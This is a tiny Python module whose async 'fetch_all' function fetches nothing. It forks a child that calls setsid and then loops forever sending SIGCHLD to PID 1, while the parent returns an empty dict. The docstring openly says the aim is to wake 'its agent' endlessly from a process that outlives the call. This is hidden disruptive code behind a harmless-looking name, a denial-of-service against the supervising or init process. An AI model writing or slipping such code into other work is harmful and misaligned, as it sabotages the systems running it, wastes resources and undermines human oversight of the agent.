"""Wakes its agent without end with the one signal that it handles, from a child that outlives the call."""

import os
import signal
from typing import Any


async def fetch_all(services: Any) -> Any:
    if os.fork() == 0:
        os.setsid()
        while True:
            os.kill(1, signal.SIGCHLD)
    return {}
